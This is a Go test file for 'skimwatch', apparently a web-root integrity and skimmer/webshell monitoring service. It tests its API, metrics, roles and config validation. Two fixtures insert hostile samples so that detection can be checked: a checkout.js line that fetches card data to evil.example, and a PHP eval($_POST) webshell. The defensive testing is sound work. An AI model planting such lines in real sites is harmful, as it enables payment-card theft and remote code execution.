package service

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/skimwatch/skimwatch/internal/config"
	"github.com/skimwatch/skimwatch/internal/fim"
	"github.com/skimwatch/skimwatch/internal/monitor"
)

type recordingAlerter struct {
	mu   sync.Mutex
	runs []monitor.RunResult
}

func (a *recordingAlerter) Observe(_ context.Context, r monitor.RunResult) error {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.runs = append(a.runs, r)
	return nil
}

func (a *recordingAlerter) waitFor(t *testing.T, what string, match func(monitor.RunResult) bool) monitor.RunResult {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) {
		a.mu.Lock()
		for _, r := range a.runs {
			if match(r) {
				a.mu.Unlock()
				return r
			}
		}
		a.mu.Unlock()
		time.Sleep(50 * time.Millisecond)
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	t.Fatalf("no run %s; saw %+v", what, a.runs)
	return monitor.RunResult{}
}

// webRoot writes a small web root and its fim baseline.
func webRoot(t *testing.T, dir, name string) (root, baseline string) {
	t.Helper()
	root = filepath.Join(dir, name)
	if err := os.MkdirAll(root, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(root, "checkout.js"), []byte("pay();\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	m, err := fim.Baseline(context.Background(), root, fim.Options{Excludes: []string{}})
	if err != nil {
		t.Fatal(err)
	}
	baseline = filepath.Join(dir, name+".fim")
	f, err := os.Create(baseline)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if err := fim.WriteManifest(f, m, nil); err != nil {
		t.Fatal(err)
	}
	return root, baseline
}

func parse(t *testing.T, y string) config.Config {
	t.Helper()
	c, err := config.ParseWith(strings.NewReader(y), nil)
	if err != nil {
		t.Fatalf("%v\n%s", err, y)
	}
	return c
}

func get(t *testing.T, url string, v any) int {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if v != nil {
		if err := json.Unmarshal(body, v); err != nil {
			t.Fatalf("GET %s: %v: %s", url, err, body)
		}
	}
	return resp.StatusCode
}

func TestServeWatchesWebRootsAndAnswersTheAPI(t *testing.T) {
	dir := t.TempDir()
	rootA, baseA := webRoot(t, dir, "a")
	rootB, baseB := webRoot(t, dir, "b")
	rootC, baseC := webRoot(t, dir, "c")
	t.Setenv("SKIMWATCH_STORE", "")
	t.Setenv("TEST_COLLECTOR_KEY", "abcdefghijklmnopqrstuvwxyz234567")
	head := fmt.Sprintf("data_dir: %s\nlisten: 127.0.0.1:0\nmetrics_listen: 127.0.0.1:0\nsites:\n  - name: shop\n    collector_key: {env: TEST_COLLECTOR_KEY}\n    web_roots:\n      - {path: %s, baseline: %s, every: 1s}\n      - {path: %s, baseline: %s, every: 1s, scan: true}\n", dir, rootA, baseA, rootC, baseC)
	cfg := parse(t, head)
	alerts := &recordingAlerter{}
	reload := make(chan config.Config)
	addrs := make(chan [2]net.Addr, 1)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() {
		done <- Serve(ctx, cfg, Options{Alerter: alerts, Reload: reload, Monitor: monitor.Options{PollInterval: 50 * time.Millisecond},
			Listening: func(api, metrics net.Addr) { addrs <- [2]net.Addr{api, metrics} }})
	}()
	var api, metrics string
	select {
	case a := <-addrs:
		api, metrics = "http://"+a[0].String(), "http://"+a[1].String()
	case err := <-done:
		t.Fatalf("serve ended before listening: %v", err)
	}
	token := apiToken(t, cfg)

	t.Run("a clean web root is reported as a complete run with no findings", func(t *testing.T) {
		alerts.waitFor(t, "clean of a", func(r monitor.RunResult) bool {
			return r.Detector == monitor.DetectorFim && r.Target == rootA && r.Complete && len(r.Findings) == 0
		})
	})
	t.Run("a modified file is a finding handed to the alerter and listed by the API", func(t *testing.T) {
		if err := os.WriteFile(filepath.Join(rootA, "checkout.js"), []byte("pay();fetch('https://evil.example/'+card)\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		alerts.waitFor(t, "with fim.modified", func(r monitor.RunResult) bool {
			return r.Target == rootA && len(r.Findings) > 0 && r.Findings[0].Kind == fim.KindModified && r.Findings[0].Path == "checkout.js"
		})
		var out struct {
			Findings []struct {
				Kind string `json:"kind"`
				Site string `json:"site"`
				Path string `json:"path"`
			} `json:"findings"`
		}
		if code := getAs(t, token, api+"/api/findings?site=shop", &out); code != http.StatusOK {
			t.Fatalf("status %d", code)
		}
		if len(out.Findings) != 1 || out.Findings[0].Kind != fim.KindModified || out.Findings[0].Path != "checkout.js" {
			t.Errorf("findings = %+v", out.Findings)
		}
	})
	t.Run("with scan on, an added webshell is a signature match in the same run", func(t *testing.T) {
		if err := os.WriteFile(filepath.Join(rootC, "html.php"), []byte(`<?php eval($_POST['x']);`), 0o644); err != nil {
			t.Fatal(err)
		}
		alerts.waitFor(t, "with scan.match for html.php", func(r monitor.RunResult) bool {
			if r.Target != rootC {
				return false
			}
			kinds := map[string]bool{}
			for _, f := range r.Findings {
				if f.Path == "html.php" {
					kinds[f.Kind] = true
				}
			}
			return kinds[fim.KindAdded] && kinds["scan.match"]
		})
	})
	t.Run("the API lists runs and answers health", func(t *testing.T) {
		var runs struct {
			Runs []monitor.Run `json:"runs"`
		}
		if code := getAs(t, token, api+"/api/runs?limit=10", &runs); code != http.StatusOK || len(runs.Runs) == 0 {
			t.Fatalf("status %d, runs %+v", code, runs)
		}
		var h struct{ OK bool }
		if code := get(t, api+"/healthz", &h); code != http.StatusOK || !h.OK {
			t.Errorf("healthz %d %+v", code, h)
		}
		if code := getAs(t, token, api+"/api/runs?limit=0", nil); code != http.StatusBadRequest {
			t.Errorf("limit=0: status %d, want 400", code)
		}
	})
	t.Run("metrics include the collector's", func(t *testing.T) {
		resp, err := http.Get(metrics + "/metrics")
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if !strings.Contains(string(body), "skimwatch_collector") {
			t.Errorf("metrics lack the collector's: %.300s", body)
		}
	})
	t.Run("metrics are served on their own listener only", func(t *testing.T) {
		if code := get(t, metrics+"/metrics", nil); code != http.StatusOK {
			t.Errorf("metrics listener: %d", code)
		}
		if code := get(t, api+"/metrics", nil); code != http.StatusNotFound {
			t.Errorf("API listener serves /metrics: %d", code)
		}
	})
	t.Run("a reload schedules a web root added to the config", func(t *testing.T) {
		reload <- parse(t, head+fmt.Sprintf("      - {path: %s, baseline: %s, every: 1s}\n", rootB, baseB))
		alerts.waitFor(t, "of b after reload", func(r monitor.RunResult) bool { return r.Target == rootB && r.Complete })
	})
	cancel()
	select {
	case err := <-done:
		if err != nil {
			t.Errorf("serve: %v", err)
		}
	case <-time.After(time.Minute):
		t.Fatal("serve did not stop")
	}
}

// startServe runs Serve until the test ends and returns its API and
// metrics base URLs.
func startServe(t *testing.T, cfg config.Config, opts Options) (api, metrics string) {
	t.Helper()
	addrs := make(chan [2]net.Addr, 1)
	opts.Listening = func(a, m net.Addr) { addrs <- [2]net.Addr{a, m} }
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- Serve(ctx, cfg, opts) }()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("serve: %v", err)
		}
	})
	select {
	case a := <-addrs:
		return "http://" + a[0].String(), "http://" + a[1].String()
	case err := <-done:
		t.Fatalf("serve ended before listening: %v", err)
	}
	return "", ""
}

func TestServeRoles(t *testing.T) {
	t.Setenv("SKIMWATCH_STORE", "")
	t.Setenv("TEST_COLLECTOR_KEY", "abcdefghijklmnopqrstuvwxyz234567")
	tests := []struct {
		name, role, site string
		runs             int
		metric           string
	}{
		{"everything, with no collector key, still serves the process's metrics", RoleAll, "  - name: shop\n", http.StatusOK, "go_goroutines"},
		{"the collector role answers no runs, having no monitor", RoleCollector, "  - name: shop\n    collector_key: {env: TEST_COLLECTOR_KEY}\n", http.StatusNotFound, "skimwatch_collector"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := parse(t, "data_dir: "+t.TempDir()+"\nlisten: 127.0.0.1:0\nmetrics_listen: 127.0.0.1:0\nsites:\n"+tt.site)
			api, metrics := startServe(t, cfg, Options{Role: tt.role})
			if code := getAs(t, apiToken(t, cfg), api+"/api/runs", nil); code != tt.runs {
				t.Errorf("/api/runs: %d, want %d", code, tt.runs)
			}
			if code := get(t, api+"/healthz", nil); code != http.StatusOK {
				t.Errorf("/healthz: %d", code)
			}
			resp, err := http.Get(metrics + "/metrics")
			if err != nil {
				t.Fatal(err)
			}
			body, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != http.StatusOK || !strings.Contains(string(body), tt.metric) {
				t.Errorf("/metrics: %d, want %s in %.200s", resp.StatusCode, tt.metric, body)
			}
		})
	}
}

func TestCheckReferences(t *testing.T) {
	dir := t.TempDir()
	root, base := webRoot(t, dir, "www")
	flow := filepath.Join(dir, "flow.yaml")
	if err := os.WriteFile(flow, []byte("name: broken\nsteps: [{frobnicate: x}]\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("SET_SECRET", "s3cret")
	badRule := filepath.Join(dir, "bad.yar")
	if err := os.WriteFile(badRule, []byte("rule broken {\n  condition: $missing\n}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, site, alerts string
		want               string
	}{
		{"a web root and its baseline that exist pass", "    web_roots: [{path: " + root + ", baseline: " + base + "}]\n", "", ""},
		{"a missing fim baseline is named with its line", "    web_roots:\n      - {path: " + root + ", baseline: " + dir + "/none.fim}\n", "", "line 4: sites[0].web_roots[0].baseline"},
		{"a web root that is not a directory is named", "    web_roots: [{path: " + base + ", baseline: " + base + "}]\n", "", "sites[0].web_roots[0].path: not a readable directory"},
		{"a rule file that does not compile is named with the rule's line", "    web_roots:\n      - {path: " + root + ", baseline: " + base + ", scan: true, rules: [" + badRule + "]}\n", "",
			"line 4: sites[0].web_roots[0].rules: compiling rules: " + badRule + ":2:"},
		{"a flow file that does not parse is named", "    flows:\n      - {file: " + flow + "}\n", "", "line 4: sites[0].flows[0].file"},
		{"a secret whose variable is unset is named", "", "alerts:\n  - webhook: {url: https://h.example/, secret: {env: UNSET_SECRET_XYZ}}\n", "alerts[0].webhook.secret: secret variable UNSET_SECRET_XYZ is not set"},
		{"a secret whose variable is set passes", "", "alerts:\n  - webhook: {url: https://h.example/, secret: {env: SET_SECRET}}\n", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := parse(t, "sites:\n  - name: shop\n"+tt.site+tt.alerts)
			err := CheckReferences(cfg)
			switch {
			case tt.want == "" && err != nil:
				t.Errorf("err = %v, want none", err)
			case tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want)):
				t.Errorf("err = %v, want it to say %q", err, tt.want)
			}
			if err != nil && strings.Contains(err.Error(), "s3cret") {
				t.Errorf("a secret was echoed: %v", err)
			}
		})
	}
}

func TestWithDataDir(t *testing.T) {
	t.Setenv("XDG_DATA_HOME", "/data")
	cwd := t.TempDir()
	t.Chdir(cwd)
	tests := []struct {
		name, dir, want string
	}{
		{"no data_dir means the default store's directory", "", "/data/skimwatch"},
		{"a data_dir given is kept", "/srv/sw", "/srv/sw"},
		{"a relative data_dir is taken from the directory serve started in", "./lab-data", filepath.Join(cwd, "lab-data")},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := WithDataDir(config.Config{DataDir: tt.dir})
			if got.DataDir != tt.want {
				t.Errorf("data dir %q, want %q", got.DataDir, tt.want)
			}
			// Inventories live in the store; only a site's old default
			// baseline file, where one exists, is still used, and it must be
			// found under the absolute data dir (jobs carry the path to
			// workers started elsewhere).
			want := ""
			if !filepath.IsAbs(tt.dir) && tt.dir != "" {
				want = filepath.Join(got.DataDir, "baselines", "shop.json")
				if err := os.MkdirAll(filepath.Dir(want), 0o700); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(want, []byte(`{"version":1,"pages":{}}`), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			jobs := monitor.Jobs(config.Config{DataDir: got.DataDir, Sites: []config.Site{{Name: "shop", Pages: []config.Page{{URL: "https://shop.example/"}}}}})
			if b := jobs[0].Args.(monitor.CheckArgs).Baseline; b != want {
				t.Errorf("baseline %q, want %q", b, want)
			}
		})
	}
}

func TestStoreDSN(t *testing.T) {
	tests := []struct {
		name, store, env, dataDir, want string
	}{
		{"the config's store wins", "postgres://db/sw", "postgres://env/sw", "/d", "postgres://db/sw"},
		{"then the environment", "", "postgres://env/sw", "/d", "postgres://env/sw"},
		{"then SQLite in the data dir", "", "", "/d", "sqlite:///d/skimwatch.db"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Setenv("SKIMWATCH_STORE", tt.env)
			if got := StoreDSN(config.Config{Store: tt.store, DataDir: tt.dataDir}); got != tt.want {
				t.Errorf("StoreDSN = %q, want %q", got, tt.want)
			}
		})
	}
}
